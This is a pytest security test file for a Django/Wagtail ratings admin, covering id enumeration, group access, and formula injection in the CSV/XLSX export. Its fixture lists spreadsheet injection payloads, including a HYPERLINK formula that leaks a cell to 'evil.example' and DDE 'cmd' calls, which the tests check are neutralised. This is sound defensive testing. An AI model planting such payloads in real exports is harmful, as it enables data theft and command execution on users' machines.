"""
The ratings admin under attack: id enumeration, who gets in, the void form's date fields, and
formulas in the report's CSV/XLSX export.
"""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.test import Client
from django.utils import timezone
from wagtail.models import GroupCollectionPermission, GroupPagePermission, ModelLogEntry

from digiradar_wagtail.ratings.models import RatingTarget, Vote
from tests.builders import make_measure

from .conftest import WINDOW, set_rating
from .test_admin import REPORT, is_denied, make_user, urls

# Every URL of the ratings admin (digiradar_wagtail/ratings/admin_urls.py), with its method.
TARGET_URLS = [
    ("get", "{base}"),
    ("post", "{base}void/"),
    ("post", "{base}reset/"),
    ("post", "{base}close/"),
    ("post", "{base}open/"),
]
LIST_URLS = [REPORT, f"{REPORT}results/", f"{REPORT}?export=csv", f"{REPORT}?export=xlsx"]


@pytest.fixture
def moderator(db):
    return make_user("moderator", ("wagtailadmin", "access_admin"), ("digiradar_ratings", "moderate_ratings"))


def normalised(response):
    """The body without what differs on every request (CSRF tokens)."""
    html = re.sub(r'"CSRF_TOKEN": "[^"]*"', "", response.content.decode())
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", html)


# 3. No enumeration of target ids ------------------------------------------------------------------


def test_non_moderators_cannot_tell_existing_ids_from_missing_ones(target):
    _, editor = make_user("editor", ("wagtailadmin", "access_admin"))
    missing = RatingTarget.objects.order_by("-pk").first().pk + 1000
    counts = (target.vote_count, target.vote_sum)
    for method, pattern in TARGET_URLS:
        answers = []
        for pk in (target.pk, missing, 2**62):
            url = pattern.format(base=f"{REPORT}{pk}/")
            response = getattr(editor, method)(url, WINDOW)
            answers.append((response.status_code, response.get("Location"), normalised(response)))
        assert answers[0][:2] == (302, "/admin/"), (method, pattern)
        assert answers[0] == answers[1] == answers[2], (method, pattern)
        # And the other method on the same URL (405 for moderators) is refused the same way.
        other = "get" if method == "post" else "post"
        for pk in (target.pk, missing):
            url = pattern.format(base=f"{REPORT}{pk}/")
            assert is_denied(getattr(editor, other)(url, WINDOW)), url
    target.refresh_from_db()
    assert (target.vote_count, target.vote_sum) == counts and not target.closed_by_moderator
    assert not ModelLogEntry.objects.filter(action__startswith="digiradar_ratings.").exists()


def test_moderators_still_get_404_for_missing_ids(target, moderator):
    _, client = moderator
    missing = target.pk + 1000
    # (Django's LocaleMiddleware first redirects a 404 to the language-prefixed URL.)
    assert client.get(f"{REPORT}{missing}/", follow=True).status_code == 404
    assert client.post(f"{REPORT}{missing}/close/", {"reason": "x"}).status_code in (302, 404)
    assert not ModelLogEntry.objects.exists()
    assert client.get(f"{REPORT}{target.pk}/").status_code == 200


# 7. The two groups ------------------------------------------------------------------------------


def test_rating_moderators_group_has_exactly_admin_access_and_moderate_ratings(db):
    group = Group.objects.get(name="Rating moderators")
    permissions = group.permissions.select_related("content_type")
    assert {(perm.content_type.app_label, perm.codename) for perm in permissions} == {
        ("wagtailadmin", "access_admin"),
        ("digiradar_ratings", "moderate_ratings"),
    }
    assert not GroupPagePermission.objects.filter(group=group).exists()
    assert not GroupCollectionPermission.objects.filter(group=group).exists()


def test_a_member_of_rating_moderators_gets_in(target):
    user = get_user_model().objects.create_user("rm", password="pw")
    user.groups.add(Group.objects.get(name="Rating moderators"))
    client = Client()
    client.force_login(user)
    for url in LIST_URLS + [f"{REPORT}{target.pk}/"]:
        assert client.get(url).status_code == 200, url


def test_wagtails_own_moderators_cannot_reach_any_ratings_admin_url(target):
    user = get_user_model().objects.create_user("wm", password="pw")
    user.groups.add(Group.objects.get(name="Moderators"))
    client = Client()
    client.force_login(user)
    assert client.get("/admin/").status_code == 200  # they are in the admin ...
    assert REPORT not in client.get("/admin/").content.decode()  # ... without a ratings menu item
    for url in LIST_URLS:
        assert is_denied(client.get(url)), url
    for method, pattern in TARGET_URLS:
        url = pattern.format(base=f"{REPORT}{target.pk}/")
        assert is_denied(getattr(client, method)(url, WINDOW)), url
    assert set(urls(target)["get"]) <= set(LIST_URLS + [f"{REPORT}{target.pk}/"])
    target.refresh_from_db()
    assert target.vote_count == 2 and not target.closed_by_moderator


# 4. The void form's date fields -------------------------------------------------------------------


def test_void_form_uses_the_browsers_datetime_field_without_inline_script(target, moderator):
    html = moderator[1].get(f"{REPORT}{target.pk}/").content.decode()
    form = html.split('id="rating-void"')[1].split("</form>")[0]
    inputs = re.findall(r"<input[^>]*>", form)
    dates = [tag for tag in inputs if 'type="datetime-local"' in tag]
    assert {re.search(r'name="(\w+)"', tag).group(1) for tag in dates} == {"since", "until"}
    for tag in dates:
        # Filled in with the last hour, in the format the browser's picker reads.
        assert re.search(r'value="\d{4}-\d\d-\d\dT\d\d:\d\d"', tag), tag
        field_id = re.search(r'id="([^"]+)"', tag).group(1)
        assert f'for="{field_id}"' in form  # a label belongs to it
    assert "<script" not in form and "initDateTimeChooser" not in html


def test_void_with_the_values_the_browser_sends(target, moderator):
    user, client = moderator
    old = timezone.now() - datetime.timedelta(days=1)
    Vote.objects.filter(pk=Vote.objects.order_by("pk").first().pk).update(created_at=old, updated_at=old)
    since = timezone.localtime() - datetime.timedelta(hours=1)
    until = timezone.localtime() + datetime.timedelta(hours=1)
    response = client.post(
        f"{REPORT}{target.pk}/void/",
        {"since": f"{since:%Y-%m-%dT%H:%M}", "until": f"{until:%Y-%m-%dT%H:%M}", "reason": "Burst"},
    )
    assert response.status_code == 302
    target.refresh_from_db()
    assert target.vote_count == 1 == Vote.objects.count()
    assert ModelLogEntry.objects.get(action="digiradar_ratings.void").data["count"] == 1
    # A malformed value is a form error, not a 500, and changes nothing.
    response = client.post(
        f"{REPORT}{target.pk}/void/", {"since": "2025-13-01T00:00", "until": "x", "reason": "Burst"}
    )
    assert response.status_code == 400
    assert 'type="datetime-local"' in response.content.decode()
    target.refresh_from_db()
    assert target.vote_count == 1


# 6. Formulas in the report's export -----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",  # (openpyxl reads a stored "\r" back as "\n")
]


@pytest.fixture
def formula_targets(radar):
    for index, title in enumerate(FORMULAS):
        page = set_rating(make_measure(radar, title, slug=f"formel-{index}"))
        RatingTarget.objects.create(translation_key=page.translation_key)
    return FORMULAS


def test_report_csv_neutralises_formulas(formula_targets, moderator):
    response = moderator[1].get(f"{REPORT}?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    titles = [row[0] for row in rows[1:]]
    assert sorted(titles) == sorted("'" + title for title in formula_targets)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_report_xlsx_writes_formulas_as_neutralised_text(formula_targets, moderator):
    response = moderator[1].get(f"{REPORT}?export=xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook.active.iter_rows(min_row=2))
    assert sorted(row[0].value for row in rows) == sorted(
        "'" + title.replace("\r", "\n") for title in formula_targets
    )
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
